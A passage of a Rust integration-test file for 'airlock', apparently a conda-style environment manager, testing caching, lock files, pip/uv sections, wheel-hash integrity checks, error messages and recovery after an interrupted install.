    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("is corrupt"), "{stderr}");
    let file = s.prefix("again").join(rel);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "Hello again\n");
    assert_eq!(std::fs::read_to_string(&shared_file).unwrap(), "garbage");
    let users = cache_entry(&s, "greeting-data-2.0-0").join(rel);
    assert_eq!(inode(&file), inode(&users));
}

#[test]
fn cache_on_another_filesystem_copies_and_says_so_once() {
    use std::os::unix::fs::MetadataExt as _;
    let s = Sandbox::new();
    let rel = "share/greeting-data/greeting.txt";
    let out = s.run(&["env", "create", "-n", "same", "hello"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("another filesystem"), "{stderr}");
    assert!(
        std::fs::metadata(s.prefix("same").join(rel))
            .unwrap()
            .nlink()
            > 1
    );

    // /dev/shm is a tmpfs: a cache there and environments on the disk cannot share inodes.
    let shm = tempfile::Builder::new()
        .prefix("airlock-env-test-pkgs-")
        .tempdir_in("/dev/shm")
        .unwrap();
    assert_ne!(
        std::fs::metadata(shm.path()).unwrap().dev(),
        std::fs::metadata(s.path("data")).unwrap().dev(),
        "/dev/shm must be another filesystem than the test's directory"
    );
    let out = s
        .command()
        .args(["env", "create", "-n", "copied", "hello"])
        .env("AIRLOCK_PKGS_DIR", shm.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(
        stderr.matches("is on another filesystem").count(),
        1,
        "{stderr}"
    );
    assert!(
        stderr.contains(&shm.path().display().to_string()),
        "{stderr}"
    );
    let file = s.prefix("copied").join(rel);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "Hello again\n");
    assert_eq!(std::fs::metadata(&file).unwrap().nlink(), 1);
    // conda-meta records the copy (link type 3), as conda does.
    let meta: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(
            s.prefix("copied")
                .join("conda-meta/greeting-data-2.0-0.json"),
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(meta["link"]["type"], 3, "{meta}");
}

#[test]
fn progress_is_bars_on_a_terminal_and_lines_otherwise() {
    if !which("script") {
        eprintln!("skipping: script(1) is not installed");
        return;
    }
    let s = Sandbox::new();
    // Not a terminal (the tests' pipes): one plain line per package.
    let out = s.run(&["env", "create", "-n", "plain", "hello"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("airlock: linking hello-2.0-0.conda"),
        "{stderr}"
    );

    // On a terminal (script(1) gives the command a pseudo-terminal): progress bars. The
    // sandbox's environment goes to script(1), which passes it on.
    let sandboxed = s.command();
    let mut script = Command::new("script");
    for (key, value) in sandboxed.get_envs() {
        match value {
            Some(v) => script.env(key, v),
            None => script.env_remove(key),
        };
    }
    let out = script
        .env("TERM", "xterm")
        .current_dir(s.path("work"))
        .arg("-qec")
        .arg(format!(
            "{} env create -n bars hello",
            env!("CARGO_BIN_EXE_airlock")
        ))
        .arg("/dev/null")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("installing packages"), "{text}");
    assert!(!text.contains("airlock: linking"), "{text}");
    assert!(text.contains("airlock: created"), "{text}");
    assert!(s.prefix("bars").join("bin/hello").is_file());
}

#[test]
fn malformed_environment_yml_names_file_line_and_field() {
    let s = Sandbox::new();
    let yml = s.write(
        "bad.yml",
        "name: bad\nchannels:\n  - conda-forge\ndependencies:\n  - hello\n  - 'hello >=>= 1'\n",
    );
    let err = s.fails(&["env", "create", "-f", yml.to_str().unwrap()]);
    assert!(
        err.contains(&format!("{}:6: field `dependencies[1]`", yml.display())),
        "{err}"
    );
    let yml = s.write(
        "syntax.yml",
        "name: bad\ndependencies:\n  - hello\n - [oops\n",
    );
    let err = s.fails(&["env", "create", "-f", yml.to_str().unwrap()]);
    assert!(err.contains("syntax.yml:"), "{err}");
    assert!(
        !err.contains("(document)") && !err.contains("field ``"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "one sentence: {err}");
}

/// Issue 23 (in part): `-q` silences what env commands say, and the files of an environment
/// that are meant for everyone (`conda-meta/history`, a lock) follow the umask, as conda's do.
#[test]
fn quiet_env_commands_say_nothing_and_shared_files_follow_the_umask() {
    use std::os::unix::fs::PermissionsExt as _;
    let s = Sandbox::new();
    let under_umask = |umask: &str, args: &[&str]| {
        let mut cmd = s.command_of("sh");
        cmd.arg("-c")
            .arg(format!("umask {umask}; exec \"$0\" \"$@\""))
            .arg(env!("CARGO_BIN_EXE_airlock"))
            .args(args);
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
        out
    };
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let out = under_umask("022", &["-q", "env", "create", "-n", "q", "hello"]);
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "",
        "-q: nothing on stderr"
    );
    assert_eq!(mode(&s.prefix("q").join("conda-meta/history")), 0o644);
    let out = under_umask("027", &["env", "create", "-n", "r", "hello"]);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("airlock: created"), "{said}");
    assert_eq!(mode(&s.prefix("r").join("conda-meta/history")), 0o640);
    let yml = s.write("q.yml", "name: q\ndependencies:\n  - hello\n");
    let lock = s.path("work").join("q.lock");
    let out = under_umask(
        "022",
        &[
            "-q",
            "env",
            "lock",
            "-f",
            yml.to_str().unwrap(),
            "-o",
            lock.to_str().unwrap(),
        ],
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "",
        "-q: nothing on stderr"
    );
    assert_eq!(mode(&lock), 0o644);
}

#[test]
fn unsatisfiable_specs_name_the_conflict() {
    let s = Sandbox::new();
    let err = s.fails(&["env", "create", "-n", "x", "hello=1.0", "greeting-data>=2"]);
    assert!(err.contains("cannot be installed together"), "{err}");
    assert!(err.contains("greeting-data"), "{err}");
    let err = s.fails(&["env", "create", "-n", "x", "needs-old-foo"]);
    assert!(err.contains("libfoo"), "{err}");
    // In the user's words: a name the channels do not have, a version none has.
    let err = s.fails(&["env", "create", "-n", "x", "no-such-package"]);
    assert!(
        err.contains("package no-such-package does not exist in"),
        "{err}"
    );
    let err = s.fails(&["env", "create", "-n", "x", "hello>=99"]);
    assert!(
        err.contains("no hello package matches `hello >=99`"),
        "{err}"
    );
    assert!(!s.prefix("x").exists());
}

#[test]
fn unknown_unreachable_and_offline_channels() {
    let s = Sandbox::new();
    let err = s.fails(&["env", "create", "-n", "x", "-c", "no-such-channel", "hello"]);
    assert!(
        err.contains("channel `no-such-channel` does not exist"),
        "{err}"
    );
    // Nothing listens on port 9 of loopback.
    let err = s.fails(&[
        "env",
        "create",
        "-n",
        "x",
        "-c",
        "http://127.0.0.1:9/chan",
        "hello",
    ]);
    assert!(err.contains("could not be reached"), "{err}");
    let out = s
        .command()
        .args([
            "env",
            "create",
            "-n",
            "x",
            "-c",
            "https://conda.anaconda.org/conda-forge",
            "hello",
        ])
        .env("AIRLOCK_OFFLINE", "1")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("offline mode"), "{err}");
}

#[test]
fn missing_environment_is_one_sentence() {
    let s = Sandbox::new();
    for args in [
        &["env", "run", "-n", "nope", "--", "true"][..],
        &["env", "export", "-n", "nope"][..],
        &["env", "shell-hook", "-n", "nope"][..],
        &["env", "update", "-n", "nope", "hello"][..],
    ] {
        let err = s.fails(args);
        assert_eq!(
            err.trim(),
            "airlock: error: environment `nope` does not exist; `airlock env list` shows the known ones",
            "{args:?}"
        );
    }
    let err = s.fails(&["env", "create", "-n", "../escape", "hello"]);
    assert!(err.contains("invalid environment name"), "{err}");
}

#[test]
fn existing_environment_is_not_overwritten_without_force() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "keep", "hello=1.0"]);
    let err = s.fails(&["env", "create", "-n", "keep", "hello"]);
    assert!(err.contains("already exists"), "{err}");
    s.ok(&["env", "create", "-n", "keep", "--force", "hello=2.0"]);
    assert!(installed(&s.prefix("keep")).contains(&"hello-2.0-0".to_owned()));
    assert!(leftovers(&s.envs_dir()).is_empty());
}

/// A `python` conda package whose interpreter is a venv made by the test: the pip section runs
/// against a real interpreter that is isolated from the system's site-packages.
/// A channel with a `python` package that is a wrapper around a fresh venv (isolated from the
/// system Python), a wheel, and an environment.yml with a `pip:` section that installs it
/// offline. Returns the yml and the venv.
fn pip_setup(s: &Sandbox) -> (PathBuf, PathBuf) {
    let wheels = s.path("work/wheels");
    build_wheel(&wheels, "tinypkg", "0.1", &[]);
    pip_setup_with(
        s,
        &format!("--find-links {}\n    - tinypkg==0.1", wheels.display()),
    )
}

/// [`pip_setup`]'s channel and venv with `pip_lines` (after `--no-index`) in the yml's `pip:`
/// section; the wheels are the caller's.
fn pip_setup_with(s: &Sandbox, pip_lines: &str) -> (PathBuf, PathBuf) {
    let venv = s.path("venv");
    let status = Command::new("python3")
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(status.success());
    let pychan = s.path("pychannel");
    testchannel::build_channel(
        &pychan,
        &[PackageBuild::new("python", "3.11.99").file(PackageFile {
            path: "bin/python".to_owned(),
            contents: format!("#!/bin/sh\nexec \"{}/bin/python\" \"$@\"\n", venv.display())
                .into_bytes(),
            executable: true,
            has_prefix: false,
            mode: None,
            symlink_to: None,
            listed_as: None,
            unlisted: false,
        })],
    )
    .unwrap();
    let yml = s.write(
        "proj/environment.yml",
        &format!(
            "name: withpip\nchannels:\n  - {}\n  - conda-forge\ndependencies:\n  - python=3.11\n  - hello\n  - pip:\n    - --no-index\n    - {pip_lines}\n",
            url::Url::from_directory_path(&pychan).unwrap(),
        ),
    );
    (yml, venv)
}

/// `airlock env create -f yml` with `PATH` set to `path`; it must succeed.
fn create_with_path(s: &Sandbox, yml: &Path, path: &std::ffi::OsStr) {
    let out = s
        .command()
        .args(["env", "create", "-f", yml.to_str().unwrap()])
        .env("PATH", path)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `tinypkg.VERSION` as the `withpip` environment's python imports it.
fn tinypkg_version(s: &Sandbox) -> String {
    s.ok(&[
        "env",
        "run",
        "-n",
        "withpip",
        "--",
        "python",
        "-c",
        "import tinypkg; print(tinypkg.VERSION)",
    ])
    .trim()
    .to_owned()
}

/// The INSTALLER recorded in the venv for `tinypkg` (`pip` or `uv`).
fn tinypkg_installer(venv: &Path) -> String {
    let lib = venv.join("lib");
    let python_dir = std::fs::read_dir(&lib)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    std::fs::read_to_string(python_dir.join("site-packages/tinypkg-0.1.dist-info/INSTALLER"))
        .unwrap()
        .trim()
        .to_owned()
}

#[test]
fn pip_section_installs_into_the_environment_interpreter() {
    if !which("python3") {
        eprintln!("skipping: python3 is not installed");
        return;
    }
    let s = Sandbox::new();
    let (yml, venv) = pip_setup(&s);
    let wheels = s.path("work/wheels");
    create_with_path(&s, &yml, &path_without_uv());
    // Without uv on PATH, the environment's own `python -m pip` installed it.
    assert_eq!(tinypkg_installer(&venv), "pip");
    let requirements =
        std::fs::read_to_string(s.path("work/proj/environment.airlock-pip-requirements.txt"))
            .unwrap();
    assert_eq!(
        requirements,
        format!(
            "--no-index\n--find-links {}\ntinypkg==0.1\n",
            wheels.display()
        )
    );
    assert_eq!(tinypkg_version(&s), "0.1");
    let export = s.ok(&["env", "export", "-n", "withpip", "--no-builds"]);
    assert!(export.contains("  - pip:\n"), "{export}");
    assert!(export.contains("      - tinypkg==0.1\n"), "{export}");
    assert!(export.contains("  - python=3.11.99\n"), "{export}");
    // Installed from an index (--find-links), tinypkg has no URL and hash to lock: the
    // exported lock says it leaves it out.
    let out = s.run(&["env", "export", "-n", "withpip", "--format", "lock"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("the exported lock leaves out"), "{stderr}");
    assert!(stderr.contains("tinypkg"), "{stderr}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("pypi:"));
}

/// `uv` from PATH, else from the CI venv (`.ci/requirements.txt`, which `scripts/test` puts on
/// PATH).
fn uv_dir() -> PathBuf {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let ci = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/ci-venv/bin");
    std::env::split_paths(&path)
        .chain(std::iter::once(ci))
        .find(|d| d.join("uv").is_file())
        .expect("uv is not installed: install .ci/requirements.txt into target/ci-venv (.ci/run)")
}

#[test]
fn pip_section_uses_uv_when_it_is_on_path() {
    if !which("python3") {
        eprintln!("skipping: python3 is not installed");
        return;
    }
    let s = Sandbox::new();
    let (yml, venv) = pip_setup(&s);
    let path = std::env::join_paths(
        std::iter::once(uv_dir()).chain(std::env::split_paths(&path_without_uv())),
    )
    .unwrap();
    create_with_path(&s, &yml, &path);
    assert_eq!(tinypkg_installer(&venv), "uv");
    assert_eq!(tinypkg_version(&s), "0.1");
}

fn path_without_uv() -> std::ffi::OsString {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::join_paths(std::env::split_paths(&path).filter(|d| !d.join("uv").is_file())).unwrap()
}

/// Writes a pure-Python wheel by hand (a wheel is a zip with a dist-info directory), with a
/// `Requires-Dist` line for each of `requires`.
fn build_wheel(dir: &Path, name: &str, version: &str, requires: &[&str]) {
    std::fs::create_dir_all(dir).unwrap();
    let requires = requires.join("\\nRequires-Dist: ");
    let requires = if requires.is_empty() {
        requires
    } else {
        format!("Requires-Dist: {requires}\\n")
    };
    let script = format!(
        r#"
import zipfile, hashlib, base64, sys
name, version, out = "{name}", "{version}", sys.argv[1]
files = {{
    f"{{name}}/__init__.py": f"VERSION = '{{version}}'\n",
    f"{{name}}-{{version}}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {{name}}\nVersion: {{version}}\nRequires-Python: >=3.8\n{requires}",
    f"{{name}}-{{version}}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}}
record = []
path = f"{{out}}/{{name}}-{{version}}-py3-none-any.whl"
with zipfile.ZipFile(path, "w") as z:
    for p, text in files.items():
        data = text.encode()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{{p}},sha256={{digest}},{{len(data)}}")
        z.writestr(p, data)
    record.append(f"{{name}}-{{version}}.dist-info/RECORD,,")
    z.writestr(f"{{name}}-{{version}}.dist-info/RECORD", "\n".join(record) + "\n")
"#
    );
    let status = Command::new("python3")
        .args(["-c", &script])
        .arg(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn demo_channel_builds() {
    let dir = tempfile::tempdir().unwrap();
    let url = testchannel::build_demo_channel(dir.path()).unwrap();
    assert_eq!(url.scheme(), "file");
    assert!(dir.path().join("noarch/repodata.json").is_file());
    assert!(dir.path().join("noarch/hello-2.0-0.conda").is_file());
}

#[test]
fn cache_prune_keeps_what_environments_use() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "old", "hello=1.0"]);
    s.ok(&["env", "create", "-n", "new", "libfoo"]);
    s.ok(&["env", "remove", "-y", "-n", "old"]);
    let out = s.ok(&["env", "cache", "prune"]);
    assert!(out.contains("hello-1.0-0"), "{out}");
    assert!(out.contains("greeting-data-1.0-0"), "{out}");
    assert!(!out.contains("libfoo"), "{out}");
    assert!(cache_entry(&s, "libfoo-1.2-h0").is_dir());
    // The remaining environment still works and a second prune removes nothing.
    assert_eq!(s.ok(&["env", "cache", "prune"]).trim(), "");
}

#[test]
fn installing_a_gpu_lock_on_a_cpu_machine_warns() {
    let s = Sandbox::new();
    let yml = s.write("gpu.yml", "name: gpu\ndependencies:\n  - gpu-kernels\n");
    s.ok(&["env", "lock", "-f", yml.to_str().unwrap(), "--cuda", "12.4"]);
    let lock = s.path("work").join("pixi.lock");
    let out = s
        .command()
        .args([
            "env",
            "install",
            "--lock",
            lock.to_str().unwrap(),
            "-n",
            "gpu",
        ])
        .env("CONDA_OVERRIDE_CUDA", "")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("`__cuda=12.4"), "{stderr}");
    assert_eq!(installed(&s.prefix("gpu")), vec!["gpu-kernels-1.0-0"]);
}

#[test]
fn update_from_an_edited_environment_yml() {
    let s = Sandbox::new();
    let yml = s.write(
        "environment.yml",
        "name: proj\nchannels:\n  - conda-forge\ndependencies:\n  - hello=1.0\n",
    );
    let f = yml.to_str().unwrap();
    s.ok(&["env", "create", "-f", f]);
    s.write(
        "environment.yml",
        "name: proj\nchannels:\n  - conda-forge\ndependencies:\n  - hello=2.0\n  - foo-tools\nvariables:\n  STAGE: two\n",
    );
    s.ok(&["env", "update", "-f", f]);
    assert_eq!(
        installed(&s.prefix("proj")),
        vec![
            "foo-tools-0.3-h1",
            "greeting-data-2.0-0",
            "hello-2.0-0",
            "libfoo-1.2-h0"
        ]
    );
    let out = s.ok(&[
        "env",
        "run",
        "-n",
        "proj",
        "--",
        "sh",
        "-c",
        "echo $STAGE; foo-tool",
    ]);
    assert_eq!(
        out,
        format!("two\nfoo-tool in {}\n", s.prefix("proj").display())
    );
}

/// `PATH` with uv first.
fn path_with_uv() -> std::ffi::OsString {
    std::env::join_paths(std::iter::once(uv_dir()).chain(std::env::split_paths(&path_without_uv())))
        .unwrap()
}

/// Two wheels beside the yml, `tinypkg` 0.1 (which requires `tinydep>=1.0`) and `tinydep` 1.0,
/// in `proj/wheels`; the yml asks for `tinypkg` unpinned through `--find-links ./wheels`, so
/// the lock has to resolve the dependency. Returns the yml, the venv and the wheels directory.
fn pip_lock_setup(s: &Sandbox) -> (PathBuf, PathBuf, PathBuf) {
    let wheels = s.path("work/proj/wheels");
    build_wheel(&wheels, "tinypkg", "0.1", &["tinydep>=1.0"]);
    build_wheel(&wheels, "tinydep", "1.0", &[]);
    let (yml, venv) = pip_setup_with(s, "--find-links ./wheels\n    - tinypkg");
    (yml, venv, wheels)
}

/// Whether to skip a test that needs a real interpreter.
fn python3_missing() -> bool {
    let missing = !which("python3");
    if missing {
        eprintln!("skipping: python3 is not installed");
    }
    missing
}

/// Runs airlock with `PATH` set to `path`.
fn run_with_path(s: &Sandbox, args: &[&str], path: &std::ffi::OsStr) -> Output {
    s.command().args(args).env("PATH", path).output().unwrap()
}

/// `airlock env lock -f yml` with `PATH` set to `path`; it must succeed.
fn lock_with_path(s: &Sandbox, yml: &Path, path: &std::ffi::OsStr) {
    assert_success(&run_with_path(
        s,
        &["env", "lock", "-f", yml.to_str().unwrap()],
        path,
    ));
}

/// `airlock env install --lock LOCK -n NAME` with `PATH` set to `path`.
fn install_lock_with_path(s: &Sandbox, lock: &Path, name: &str, path: &std::ffi::OsStr) -> Output {
    run_with_path(
        s,
        &[
            "env",
            "install",
            "--lock",
            lock.to_str().unwrap(),
            "-n",
            name,
        ],
        path,
    )
}

fn assert_success(out: &Output) {
    assert!(
        out.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn sha256(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// `env lock` resolves the pip: section into `pypi:` entries with hashes; `env install --lock`
/// installs exactly those, even when a newer wheel appeared after locking.
fn pip_section_is_locked_and_installed_exactly(path: &std::ffi::OsStr, installer: &str) {
    let s = Sandbox::new();
    let (yml, venv, wheels) = pip_lock_setup(&s);
    lock_with_path(&s, &yml, path);
    let lock_path = s.path("work/proj/pixi.lock");
    let lock = std::fs::read_to_string(&lock_path).unwrap();

    for (name, version, requires) in [
        ("tinydep", "1.0", ""),
        ("tinypkg", "0.1", "  requires_dist:\n  - tinydep>=1.0\n"),
    ] {
        let file = format!("{name}-{version}-py3-none-any.whl");
        let entry = format!(
            "- pypi: ./wheels/{file}\n  name: {name}\n  version: '{version}'\n  sha256: {}\n{requires}  requires_python: '>=3.8'\n",
            sha256(&wheels.join(&file))
        );
        assert!(lock.contains(&entry), "{entry} not in:\n{lock}");
        assert!(
            lock.contains(&format!("      - pypi: ./wheels/{file}\n")),
            "{lock}"
        );
    }
    assert!(
        lock.contains("    indexes: []\n    find-links:\n    - path: ./wheels\n"),
        "{lock}"
    );
    // A resolver would now pick tinypkg 0.2; installing from the lock must not.
    build_wheel(&wheels, "tinypkg", "0.2", &["tinydep>=1.0"]);
    assert_success(&install_lock_with_path(&s, &lock_path, "fresh", path));
    assert!(installed(&s.prefix("fresh")).contains(&"hello-2.0-0".to_owned()));
    let versions = s.ok(&[
        "env",
        "run",
        "-n",
        "fresh",
        "--",
        "python",
        "-c",
        "import importlib.metadata as m, tinypkg, tinydep; print(tinypkg.VERSION, tinydep.VERSION, sorted(d.metadata['Name'] for d in m.distributions() if d.metadata['Name'].startswith('tiny')))",
    ]);
    assert_eq!(versions.trim(), "0.1 1.0 ['tinydep', 'tinypkg']");
    assert_eq!(tinypkg_installer(&venv), installer);

    // What is installed exports as a lock with the same wheels and hashes (pip and uv keep
    // the URL and hash of a wheel installed by URL), and that lock installs again.
    let exported = s.path("work/exported.lock");
    let out = run_with_path(
        &s,
        &[
            "env",
            "export",
            "-n",
            "fresh",
            "--format",
            "lock",
            "-o",
            exported.to_str().unwrap(),
        ],
        path,
    );
    assert_success(&out);
    let text = std::fs::read_to_string(&exported).unwrap();
    for file in [
        "tinydep-1.0-py3-none-any.whl",
        "tinypkg-0.1-py3-none-any.whl",
    ] {
        let url = url::Url::from_file_path(wheels.join(file)).unwrap();
        assert!(
            text.contains(&format!("- pypi: {url}\n")),
            "{file}:\n{text}"
        );
        assert!(text.contains(&sha256(&wheels.join(file))), "{text}");
    }
    // (The test's interpreter is a venv: its own pip is not pinnable and is named.)
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains("tinypkg") && !stderr.contains("tinydep"),
        "{stderr}"
    );
    assert_success(&install_lock_with_path(&s, &exported, "again", path));
    let again = s.ok(&[
        "env",
        "run",
        "-n",
        "again",
        "--",
        "python",
        "-c",
        "import tinypkg, tinydep; print(tinypkg.VERSION, tinydep.VERSION)",
    ]);
    assert_eq!(again.trim(), "0.1 1.0");
}

#[test]
fn pip_section_is_locked_and_installed_exactly_with_pip() {
    if python3_missing() {
        return;
    }
    pip_section_is_locked_and_installed_exactly(&path_without_uv(), "pip");
}

#[test]
fn pip_section_is_locked_and_installed_exactly_with_uv() {
    if python3_missing() {
        return;
    }
    pip_section_is_locked_and_installed_exactly(&path_with_uv(), "uv");
}

/// A distribution the pip: section needs that a conda package of the environment provides
/// (same name) stays out of the lock when conda's version will do, as pixi leaves it out; when
/// it will not, the lock keeps the wheel and says so.
fn conda_provided_dependency(path: &std::ffi::OsStr) {
    for (conda_version, locked) in [("1.0", false), ("0.5", true)] {
        let s = Sandbox::new();
        let (yml, _, _) = pip_lock_setup(&s);
        let tinychan = s.path("tinychan");
        testchannel::build_channel(&tinychan, &[PackageBuild::new("tinydep", conda_version)])
            .unwrap();
        let text = std::fs::read_to_string(&yml).unwrap();
        let text = text
            .replace(
                "channels:\n",
                &format!(
                    "channels:\n  - {}\n",
                    url::Url::from_directory_path(&tinychan).unwrap()
                ),
            )
            .replace("  - hello\n", "  - hello\n  - tinydep\n");
        std::fs::write(&yml, text).unwrap();
        let out = run_with_path(&s, &["env", "lock", "-f", yml.to_str().unwrap()], path);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{stderr}");
        let lock = std::fs::read_to_string(s.path("work/proj/pixi.lock")).unwrap();
        assert!(
            lock.contains("pypi: ./wheels/tinypkg-0.1-py3-none-any.whl"),
            "{lock}"
        );
        assert!(
            lock.contains(&format!("tinydep-{conda_version}-0.conda")),
            "{lock}"
        );
        assert_eq!(
            lock.contains("pypi: ./wheels/tinydep-1.0-py3-none-any.whl"),
            locked,
            "conda's tinydep {conda_version}:\n{lock}"
        );
        assert_eq!(
            stderr.contains("cannot use conda's tinydep 0.5"),
            locked,
            "{stderr}"
        );
    }
}

#[test]
fn a_dependency_conda_provides_is_not_locked_again_with_pip() {
    if python3_missing() {
        return;
    }
    conda_provided_dependency(&path_without_uv());
}

#[test]
fn a_dependency_conda_provides_is_not_locked_again_with_uv() {
    if python3_missing() {
        return;
    }
    conda_provided_dependency(&path_with_uv());
}

#[test]
fn a_wheel_changed_after_locking_stops_the_install_before_anything_is_built() {
    if python3_missing() {
        return;
    }
    let s = Sandbox::new();
    let (yml, venv, wheels) = pip_lock_setup(&s);
    let path = path_without_uv();
    lock_with_path(&s, &yml, &path);
    // The same file name rebuilt with other contents.
    build_wheel(&wheels, "tinydep", "1.0", &["something-else"]);
    let lock_path = s.path("work/proj/pixi.lock");
    let out = install_lock_with_path(&s, &lock_path, "broken", &path);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains("pypi package `tinydep` 1.0")
            && stderr.contains("the file changed after locking"),
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(!s.prefix("broken").exists());
    assert!(leftovers(&s.envs_dir()).is_empty());
    let registered =
        std::fs::read_to_string(s.home().join(".conda/environments.txt")).unwrap_or_default();
    assert!(!registered.contains("broken"), "{registered}");
    // Nothing reached the interpreter either.
    let site = std::fs::read_dir(venv.join("lib"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path()
        .join("site-packages");
    assert!(!site.join("tinypkg").exists());
    assert!(!site.join("tinydep").exists());
}

#[test]
fn a_local_source_tree_in_the_pip_section_is_left_out_of_the_lock() {
    if python3_missing() {
        return;
    }
    let s = Sandbox::new();
    let wheels = s.path("work/proj/wheels");
    build_wheel(&wheels, "tinypkg", "0.1", &[]);
    let (yml, _) = pip_setup_with(&s, "--find-links ./wheels\n    - tinypkg\n    - -e .");
    let out = run_with_path(
        &s,
        &["env", "lock", "-f", yml.to_str().unwrap()],
        &path_without_uv(),
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains(
            "environment.yml:12: field `dependencies.pip[3]`: `-e .` is a local source tree and is left out of the lock"
        ),
        "{stderr}"
    );
    // The rest of the section is locked; the tree is not.
    let lock = std::fs::read_to_string(s.path("work/proj/pixi.lock")).unwrap();
    assert!(
        lock.contains("pypi: ./wheels/tinypkg-0.1-py3-none-any.whl"),
        "{lock}"
    );
    assert!(
        !lock.contains("pypi: ./\n") && !lock.contains("pypi: .\n"),
        "{lock}"
    );
}

/// Starts `airlock env create ARGS` in its own process group with a `pip:` step that hangs
/// (its `--find-links` server accepts and never answers), waits until the conda part is in
/// place and the pip step running, and kills the whole group with SIGKILL.
fn kill_during_pip_step(s: &Sandbox, args: &[&str], name: &str) {
    use std::os::unix::process::CommandExt as _;
    let mut child = s
        .command()
        .args(args)
        .env("PATH", path_without_uv())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .process_group(0)
        .spawn()
        .unwrap();
    let mark = s
        .envs_dir()
        .join(name)
        .join("conda-meta/airlock-pip-pending");
    let deadline = std::time::Instant::now() + std::time::Duration::from_mins(2);
    while !mark.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the pip step never started"
        );
        assert!(child.try_wait().unwrap().is_none(), "airlock exited early");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let group = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
    nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL).unwrap();
    child.wait().unwrap();
    assert!(mark.exists(), "the mark stays behind a kill");
}

#[test]
fn a_kill_during_the_pip_step_leaves_no_environment_that_looks_complete() {
    if python3_missing() {
        return;
    }
    let s = Sandbox::new();
    let (good, _) = pip_setup(&s);
    create_with_path(&s, &good, &path_without_uv());
    assert_eq!(tinypkg_version(&s), "0.1");
    // pip fetches a --find-links URL even with --no-index: this one never answers.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let hanging = s.write(
        "proj/hanging.yml",
        &std::fs::read_to_string(&good).unwrap().replace(
            "--find-links ",
            &format!("--find-links http://127.0.0.1:{port}/\n    - --find-links "),
        ),
    );
    let hanging = hanging.to_str().unwrap();

    // Replacing an environment (--force): after the kill, the old one comes back.
    kill_during_pip_step(&s, &["env", "create", "--force", "-f", hanging], "withpip");
    assert_eq!(tinypkg_version(&s), "0.1");
    assert!(
        !s.envs_dir()
            .join("withpip/conda-meta/airlock-pip-pending")
            .exists(),
        "the old environment is back in place"
    );

    // A new name: after the kill it is not listed, and the next run removes it.
    kill_during_pip_step(
        &s,
        &["env", "create", "-n", "fresh", "-f", hanging],
        "fresh",
    );
    let out = run_with_path(
        &s,
        &["env", "run", "-n", "fresh", "--", "true"],
        &path_without_uv(),
    );
    assert!(!out.status.success());
    let list = s.ok(&["env", "list"]);
    assert!(!list.contains("fresh"), "{list}");
    assert!(list.contains("withpip"), "{list}");
    assert!(!s.envs_dir().join("fresh").exists());
    drop(silent);
}

#[test]
fn an_unreachable_locked_wheel_leaves_no_environment_and_keeps_the_replaced_one() {
    if python3_missing() {
        return;
    }
    let s = Sandbox::new();
    let (yml, _, _) = pip_lock_setup(&s);
    let path = path_without_uv();
